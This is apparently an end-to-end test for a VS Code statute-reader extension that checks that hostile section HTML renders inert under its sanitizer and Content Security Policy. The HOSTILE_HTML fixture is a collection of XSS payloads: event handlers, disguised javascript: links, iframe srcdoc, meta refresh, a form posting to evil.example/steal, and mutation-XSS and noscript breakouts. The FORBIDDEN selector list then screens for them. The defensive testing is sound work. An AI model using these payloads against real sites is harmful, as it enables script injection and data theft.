// Statute HTML is data: a service (or anyone between it and the user) answering hostile markup must
// get inert text in the reader. The local service's POST /__admin/html makes it answer such markup.
/* global getComputedStyle */
import { setTimeout as sleep } from 'node:timers/promises';
import { closeAllEditors, failure, quickInputClosed, runCommand, screenshot, serviceAdmin, typeAnswer, webview } from '../workbench.mjs';

const ACT_ID = 'USC_T17_C1_S107';
const CITATION = '17 U.S.C. § 107';
/** Every payload tries to leave this mark: in a title, a message, an element id, a request. */
const CANARY = 'PWNED';
const EVIL = 'evil.example';

const mark = `document.title='${CANARY}';parent.postMessage('${CANARY}','*');document.body.append(Object.assign(document.createElement('b'),{id:'pwned',textContent:'${CANARY}'}))`;

/** The section's body as the service will answer it: a little real markup among the attacks. */
export const HOSTILE_HTML = `<section class="level subsection" id="a" data-pinpoint="(a)">
<p><span class="num">(a)</span> Plain statute text survives: <strong>bold</strong>, <em>italic</em> and <a href="#a">a link within the section</a>.</p>
<script>${mark}</script>
<img src=x onerror="${mark}">
<img src="https://${EVIL}/pixel.png" alt="a remote image">
<div class="paragraph" onmouseover="${mark}">Hover over this paragraph: it carried an onmouseover handler.</div>
<p><a href="javascript:${mark}">A javascript: link</a> · <a href="https://${EVIL}/phish">an outside link</a> · <a href=" JaVaScRiPt:${mark}">a disguised one</a></p>
<iframe srcdoc="<script>parent.parent.postMessage('${CANARY}','*');parent.document.title='${CANARY}'</script>"></iframe>
<iframe src="https://${EVIL}/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">
<style>body { background: rgb(204, 0, 0) !important; } #root::before { content: '${CANARY}'; }</style>
<link rel="stylesheet" href="https://${EVIL}/style.css">
<p style="background: url(https://${EVIL}/background.png); color: rgb(204, 0, 0)">A paragraph that carried inline style.</p>
<svg onload="${mark}"><circle r="5"></circle></svg>
<details open ontoggle="${mark}"><summary>A details element that carried ontoggle</summary>text</details>
<form action="https://${EVIL}/steal"><input name="q" value="${CANARY}"><button formaction="javascript:${mark}">Send</button></form>
<object data="https://${EVIL}/object"></object><embed src="https://${EVIL}/embed">
<base href="https://${EVIL}/">
<math><mtext><table><mglyph><style><img src=x onerror="${mark}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=&quot;${mark}&quot;>">noscript</p></noscript>
</section>`;

/**
 * What must not be in the reader's page once the hostile text is shown: anywhere in the page (which
 * holds VS Code's own API script, the reader's script and its toolbar besides the section), and inside
 * the section's article.
 */
export const FORBIDDEN = [
  'script:not(#_vscodeApiScript):not([src$="/out/webview/reader.js"])',
  'iframe', 'frame', 'object', 'embed', 'img', 'svg', 'math', 'form', 'base', 'meta[http-equiv="refresh" i]',
  '[onerror]', '[onload]', '[onmouseover]', '[ontoggle]', '[formaction]',
  'a[href^="javascript" i]', 'a[href*="javascript" i]', `[href*="${EVIL}"]`, `[src*="${EVIL}"]`, `[action*="${EVIL}"]`, '#pwned',
  ...['script', 'style', 'link', 'meta', 'input', 'button', 'noscript', '[style]', 'a[href]:not([href^="#"])'].map((s) => `article.statute ${s}`),
];

/** Runs in every frame before its own scripts (context init script): remembers any message carrying the canary. */
function listenForCanary() {
  const w = /** @type {any} */ (window);
  if (w.__e2eCanary) return;
  w.__e2eCanary = [];
  window.addEventListener(
    'message',
    (event) => {
      try {
        if (JSON.stringify(event.data ?? null).includes('PWNED')) w.__e2eCanary.push(String(event.origin));
      } catch {
        // not serialisable: not ours
      }
    },
    true,
  );
}

/** @type {import('../run.mjs').Check[]} */
export const CHECKS = [
  {
    name: `reader-hostile: hostile section HTML (scripts, handlers, javascript: links, remote images, iframe srcdoc, meta refresh, style) renders inert in the reader`,
    async run({ page, service }) {
      /** @type {string[]} */
      const outside = [];
      /** @type {(request: import('playwright-core').Request) => void} */
      const onRequest = (request) => {
        if (request.url().includes(EVIL)) outside.push(request.url());
      };
      /** @type {{text: string, where: string}[]} */
      const violations = [];
      /** @type {(message: import('playwright-core').ConsoleMessage) => void} */
      const onConsole = (message) => {
        const text = message.text();
        const { url, lineNumber } = message.location();
        if (text.includes(CANARY) || /Content Security Policy/i.test(text)) violations.push({ text: text.slice(0, 160), where: `${url.split('/').pop()}:${lineNumber}` });
      };
      page.on('request', onRequest);
      page.on('console', onConsole);
      await page.context().addInitScript(listenForCanary);
      await page.evaluate(listenForCanary);
      const titleBefore = await page.title();
      try {
        await serviceAdmin(service, 'POST', '/__admin/html', { actId: ACT_ID, html: HOSTILE_HTML });
        // the reader and the texts from earlier checks go, so the section is fetched again
        await closeAllEditors(page);
        await runCommand(page, 'Statutes: Clear Cached Answers');
        await runCommand(page, 'Statutes: Open Section…');
        await typeAnswer(page, CITATION, { title: 'Open Section' });
        await quickInputClosed(page);
        const outer = page.frameLocator('iframe.webview.ready');
        const reader = webview(page);
        const survivor = reader.getByText('Plain statute text survives');
        await survivor.waitFor({ timeout: 20_000 });
        await sleep(1500); // a meta refresh or a late handler would have acted by now

        // a person moves the mouse over what is left and clicks the links
        await reader.getByText('Hover over this paragraph').hover();
        await sleep(200);
        const tabsBefore = await page.locator('.tabs-container .tab').count();
        for (const text of ['A javascript: link', 'an outside link', 'a disguised one', 'A details element']) {
          await reader.getByText(text).first().click();
          await sleep(200);
        }
        await sleep(800);
        const shot = await screenshot(page, 'reader-hostile');

        const problems = [];
        const found = [];
        for (const selector of FORBIDDEN) {
          const html = await reader.locator(selector).evaluateAll((nodes) => nodes.map((n) => n.outerHTML.slice(0, 160)));
          if (html.length) found.push(`${html.length}× ${selector} (${html.join(' | ')})`);
        }
        if (found.length) problems.push(`the reader's page still holds ${found.join(', ')}`);
        const scripts = await reader.locator('script').evaluateAll((nodes) => nodes.map((n) => ({ src: n.getAttribute('src') ?? '', nonce: /** @type {HTMLScriptElement} */ (n).nonce })));
        const readerScript = scripts.find((s) => s.src.endsWith('/out/webview/reader.js'));
        if (!readerScript?.nonce) problems.push(`the reader's script has no nonce: ${JSON.stringify(scripts)}`);
        for (const [where, frame] of [['reader', reader], ['webview host', outer]]) {
          const state = await frame.locator('html').evaluate(() => ({ title: document.title, pwned: !!document.getElementById('pwned'), heard: /** @type {any} */ (window).__e2eCanary ?? null, background: getComputedStyle(document.body).backgroundColor, before: getComputedStyle(document.getElementById('root') ?? document.body, '::before').content }));
          if (state.title.includes(CANARY)) problems.push(`the ${where}'s title became "${state.title}"`);
          if (state.pwned) problems.push(`an element #pwned was added to the ${where}`);
          if (state.heard?.length) problems.push(`the ${where} received ${state.heard.length} message(s) carrying the canary`);
          if (state.background === 'rgb(204, 0, 0)') problems.push(`the hostile <style> coloured the ${where}'s background`);
          if (state.before.includes(CANARY)) problems.push(`the hostile <style> put "${state.before}" before #root`);
        }
        const top = await page.evaluate(() => ({ title: document.title, pwned: !!document.getElementById('pwned'), heard: /** @type {any} */ (window).__e2eCanary ?? [] }));
        if (top.title !== titleBefore && top.title.includes(CANARY)) problems.push(`the workbench's title became "${top.title}"`);
        if (top.pwned) problems.push('an element #pwned was added to the workbench');
        if (top.heard.length) problems.push(`the workbench received ${top.heard.length} message(s) carrying the canary`);
        if (outside.length) problems.push(`the page requested ${[...new Set(outside)].join(', ')}`);
        const navigated = page.frames().filter((f) => f.url().includes(EVIL)).map((f) => f.url());
        if (navigated.length) problems.push(`a frame navigated to ${navigated.join(', ')}`);
        if (!(await survivor.isVisible())) problems.push('the reader no longer shows the section (did the page navigate away?)');
        const tabsAfter = await page.locator('.tabs-container .tab').count();
        if (tabsAfter !== tabsBefore) problems.push(`clicking the links changed the open editors (${tabsBefore} → ${tabsAfter} tabs)`);
        const opener = await page.locator('.monaco-dialog-box', { hasText: EVIL }).count();
        if (opener) problems.push('clicking a link asked to open an outside address');
        const heardViolations = violations.filter((v) => v.text.includes(CANARY));
        if (heardViolations.length) problems.push(`the console shows the canary: ${heardViolations.map((v) => v.text).join(' | ')}`);
        // Chrome checks the handlers and styles of the inert document DOMPurify parses into (reader.js)
        // against the page's CSP, and logs them: nothing runs there. Anything the CSP had to block in the
        // live page would mean markup got past the sanitizer.
        const live = violations.filter((v) => !v.where.startsWith('reader.js:'));
        if (live.length) problems.push(`the CSP had to block hostile markup in the live page: ${live.map((v) => `${v.where} ${v.text}`).join(' | ')}`);

        // the Content Security Policy the reader's page runs under, from its own <meta>
        const csp = (await reader.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
        const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
        const nonce = /'nonce-([^']+)'/.exec(scriptSrc)?.[1];
        if (!/(^|;)\s*default-src 'none'/.test(csp)) problems.push(`the CSP lacks default-src 'none': "${csp}"`);
        if (!nonce) problems.push(`the CSP's script-src has no nonce: "${scriptSrc}"`);
        if (/unsafe-inline|unsafe-eval|\*/.test(scriptSrc)) problems.push(`the CSP's script-src allows more than the nonce: "${scriptSrc}"`);
        if (nonce && readerScript?.nonce !== nonce) problems.push("the reader's script does not carry the CSP's nonce");

        const kept = (await reader.locator('article.statute').innerText()).replace(/\s+/g, ' ').trim();
        if (problems.length) throw failure(problems.join('; '), shot);
        const policy = csp.replace(/'nonce-[^']+'/, "'nonce-…'").replace(/https?:\/\/[^\s;]+/g, '<webview>');
        return {
          detail: `inert: none of ${FORBIDDEN.length} forbidden selectors match, titles unchanged, no message, request or navigation to ${EVIL}, hover and clicks did nothing; CSP "${policy}"; the article reads "${kept.slice(0, 160)}…"${violations.length ? `; the console's ${violations.length} CSP report(s) all come from the sanitizer's inert parse (${[...new Set(violations.map((v) => v.where))].join(', ')})` : ''}`,
          screenshot: shot,
        };
      } finally {
        page.off('request', onRequest);
        page.off('console', onConsole);
        await serviceAdmin(service, 'DELETE', '/__admin/html').catch(() => {});
        await runCommand(page, 'Statutes: Clear Cached Answers').catch(() => {});
      }
    },
  },
];
